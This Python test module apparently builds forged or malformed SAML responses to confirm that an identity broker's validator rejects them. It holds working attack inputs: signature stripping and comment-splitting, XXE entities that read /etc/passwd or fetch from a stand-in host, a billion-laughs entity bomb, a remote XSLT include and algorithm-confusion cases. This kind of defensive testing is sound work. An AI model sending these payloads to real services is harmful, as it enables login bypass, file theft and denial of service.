"""Attacks on SAML responses beside the wrappings: what an attacker sends, and the check that refuses it.

The attacker has true responses of the provider. Where an attack is about what a response says, or how weakly it is
signed, the provider itself has signed it: with its real key.
"""

from base64 import b64encode
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from lxml import etree
from lxml.etree import _Element as Element
from xmlsec import Transform

from broker.assertions.xml_documents import SAML, SIGNATURE
from tests.identity_providers.certificates import KeyPair
from tests.saml_wrappings import Caught
from tests.unit.assertions.saml_provider import SHA1, SHA256, encrypt, sign

EVIL = "http://127.0.0.1:1/"
CANONICAL = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"


@dataclass(frozen=True)
class ProviderKey:
    """The provider's private key, for what it has to have signed itself."""

    private_pem: str


@dataclass(frozen=True)
class Attacker:
    """`stranger` is a key pair that the provider's metadata do not name."""

    caught: Caught
    key: ProviderKey
    stranger: KeyPair

    def said(self, path: str, attribute: str | None, value: str) -> Element:
        """A response whose assertion says `value` at `path`, signed by the provider."""
        assertion = self.caught.bare
        element = assertion.find(path.replace("saml:", SAML)) if path else assertion
        if attribute is None:
            element.text = value
        else:
            element.set(attribute, value)
        return self.signed(assertion)

    def signed(self, assertion: Element, algorithms: object = SHA256) -> Element:
        return self.caught.response(sign(assertion, self.key, algorithms))

    def text(self) -> bytes:
        return bytes(etree.tostring(self.caught.assertion_signed))


def moment(**ahead: float) -> str:
    return (datetime.now(UTC) + timedelta(**ahead)).strftime("%Y-%m-%dT%H:%M:%SZ")


def stripped(attacker: Attacker) -> Element:
    return attacker.caught.response(attacker.caught.bare)


def changed_subject(attacker: Attacker) -> Element:
    document = deepcopy(attacker.caught.assertion_signed)
    document.find(f".//{SAML}NameID").text = "root"
    return document


def changed_around_a_signed_response(attacker: Attacker) -> Element:
    document = deepcopy(attacker.caught.response_signed)
    document.find(f".//{SAML}AttributeValue").text = "root"
    return document


def of_a_stranger(attacker: Attacker) -> Element:
    return attacker.caught.response(sign(attacker.caught.forged(), attacker.stranger))


def of_a_stranger_who_brings_a_certificate(attacker: Attacker) -> Element:
    document = of_a_stranger(attacker)
    info = etree.SubElement(document.find(f".//{SIGNATURE}Signature"), f"{SIGNATURE}KeyInfo")
    data = etree.SubElement(info, f"{SIGNATURE}X509Data")
    etree.SubElement(data, f"{SIGNATURE}X509Certificate").text = attacker.stranger.base64
    return document


def split(by: str) -> Callable[[Attacker], bytes]:
    """The subject's text, with `by` in its middle: canonical form leaves comments out, so that it stays signed."""

    def attack(attacker: Attacker) -> bytes:
        (name,) = attacker.caught.assertion_signed.iter(f"{SAML}NameID")
        value = name.text.encode()
        return attacker.text().replace(
            b">" + value + b"<", b">" + value[:3] + by.encode() + value[3:] + b"<", 1
        )

    return attack


def headed(prefix: str) -> Callable[[Attacker], bytes]:
    return lambda attacker: prefix.encode() + attacker.text()


def transformed(algorithm: str, content: str = "") -> Callable[[Attacker], Element]:
    """A transform that would let the signer say one thing and the reader read another."""

    def attack(attacker: Attacker) -> Element:
        document = deepcopy(attacker.caught.assertion_signed)
        (transforms,) = document.iter(f"{SIGNATURE}Transforms")
        added = etree.SubElement(transforms, f"{SIGNATURE}Transform", Algorithm=algorithm)
        if content:
            added.append(etree.fromstring(content))
        return document

    return attack


def referring_to(uri: str) -> Callable[[Attacker], Element]:
    def attack(attacker: Attacker) -> Element:
        document = deepcopy(attacker.caught.assertion_signed)
        document.find(f".//{SIGNATURE}Reference").set("URI", uri)
        return document

    return attack


def altered(name: str, algorithm: str) -> Callable[[Attacker], Element]:
    """The signature claims to be made by another method."""

    def attack(attacker: Attacker) -> Element:
        document = deepcopy(attacker.caught.assertion_signed)
        document.find(f".//{SIGNATURE}{name}").set("Algorithm", algorithm)
        return document

    return attack


def doubled(name: str) -> Callable[[Attacker], Element]:
    def attack(attacker: Attacker) -> Element:
        document = deepcopy(attacker.caught.assertion_signed)
        found = document.find(f".//{SIGNATURE}{name}")
        found.getparent().append(deepcopy(found))
        return document

    return attack


def encrypted_to_the_wrong_key(attacker: Attacker) -> Element:
    return attacker.caught.response(encrypt(attacker.caught.signed, attacker.stranger))


def without(name: str) -> Callable[[Attacker], Element]:
    """The provider's signature is over an assertion that lacks an element."""

    def attack(attacker: Attacker) -> Element:
        assertion = attacker.caught.bare
        (found,) = assertion.iter(f"{SAML}{name}")
        found.getparent().remove(found)
        return attacker.signed(assertion)

    return attack


BOMB = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10 if level else "lol"}">' for level in range(9))

ATTACKS: dict[str, tuple[Callable[[Attacker], Element | bytes], str]] = {
    "a stripped signature": (stripped, "signed"),
    "a changed subject": (changed_subject, "signature"),
    "a changed attribute in a signed response": (changed_around_a_signed_response, "signature"),
    "the signature of a stranger": (of_a_stranger, "signature"),
    "the signature of a stranger who brings a certificate": (
        of_a_stranger_who_brings_a_certificate,
        "signature",
    ),
    "a comment in the subject": (split("<!-- -->"), "document"),
    "an instruction in the subject": (split("<?a?>"), "document"),
    "a section of characters in the subject": (split("<![CDATA[ ]]>"), "signature"),
    "a comment in front": (headed("<!-- a -->"), "document"),
    "a document type": (headed("<!DOCTYPE a>"), "document"),
    "a document type elsewhere": (headed(f'<!DOCTYPE a SYSTEM "{EVIL}a.dtd">'), "document"),
    "an entity": (headed('<!DOCTYPE a [<!ENTITY b "root">]>'), "document"),
    "a file as an entity": (headed('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'), "document"),
    "a parameter entity elsewhere": (headed(f'<!DOCTYPE a [<!ENTITY % b SYSTEM "{EVIL}"> %b;]>'), "document"),
    "an entity bomb": (headed(f"<!DOCTYPE a [{BOMB}]>"), "document"),
    "a stylesheet": (headed(f'<?xml-stylesheet href="{EVIL}"?>'), "document"),
    "another encoding": (
        lambda a: ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a>' + a.text().decode()).encode(
            "utf-16"
        ),
        "document",
    ),
    "a transform by XSLT": (
        transformed(
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:include href="{EVIL}"/></xsl:stylesheet>',
        ),
        "transforms",
    ),
    "a transform by XPath": (
        transformed(
            "http://www.w3.org/TR/1999/REC-xpath-19991116",
            '<ds:XPath xmlns:ds="http://www.w3.org/2000/09/xmldsig#">not(self::text())</ds:XPath>',
        ),
        "transforms",
    ),
    "a transform by a filter": (transformed("http://www.w3.org/2002/06/xmldsig-filter2"), "transforms"),
    "a transform to base64": (transformed("http://www.w3.org/2000/09/xmldsig#base64"), "transforms"),
    "a reference elsewhere": (referring_to(EVIL), "signed element"),
    "a reference to a file": (referring_to("file:///etc/passwd"), "signed element"),
    "a reference to the whole document": (referring_to(""), "signed element"),
    "a reference by XPointer": (referring_to("#xpointer(/)"), "signed element"),
    "two references": (doubled("Reference"), "signature form"),
    "two signatures": (doubled("Signature"), "signatures"),
    "another canonical form": (altered("CanonicalizationMethod", CANONICAL), "canonicalization"),
    "a shared secret for a signature": (
        altered("SignatureMethod", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
        "signature algorithm",
    ),
    "a weak signature": (lambda a: a.signed(a.caught.bare, SHA1), "signature algorithm"),
    "a weak digest": (
        lambda a: a.signed(a.caught.bare, (Transform.RSA_SHA256, Transform.SHA1)),
        "digest algorithm",
    ),
    "encrypted to a key that is not ours": (encrypted_to_the_wrong_key, "private keys"),
    "for another recipient": (
        lambda a: a.said(
            "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", "Recipient", EVIL
        ),
        "recipient",
    ),
    "for another audience": (
        lambda a: a.said("saml:Conditions/saml:AudienceRestriction/saml:Audience", None, "urn:other"),
        "audience",
    ),
    "for any audience": (without("AudienceRestriction"), "audience"),
    "by another issuer": (lambda a: a.said("saml:Issuer", None, EVIL), "issuer"),
    "expired": (
        lambda a: a.said("saml:Conditions", "NotOnOrAfter", moment(hours=-1)),
        "conditions not on or after",
    ),
    "not valid yet": (
        lambda a: a.said("saml:Conditions", "NotBefore", moment(hours=1)),
        "conditions not before",
    ),
    "not confirmed any more": (
        lambda a: a.said(
            "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData",
            "NotOnOrAfter",
            moment(hours=-1),
        ),
        "subject confirmation not on or after",
    ),
    "from the far future": (lambda a: a.said("", "IssueInstant", moment(days=3650)), "issue instant"),
    "older than five minutes": (lambda a: a.said("", "IssueInstant", moment(minutes=-10)), "redemption"),
    "confirmed by holding a key": (
        lambda a: a.said(
            "saml:Subject/saml:SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
        ),
        "subject confirmation",
    ),
    "without a subject": (without("Subject"), "Subject"),
    "nested deeply": (lambda _: b"<a>" * 200 + b"</a>" * 200, "document"),
    "of very many elements": (lambda _: b"<a>" + b"<b/>" * 18_000 + b"</a>", "response"),
    "an assertion without a response": (lambda a: a.caught.signed, "response"),
    "not XML": (lambda _: b"AAAA", "document"),
}


def encoded(document: Element | bytes) -> str:
    return b64encode(document if isinstance(document, bytes) else etree.tostring(document)).decode()
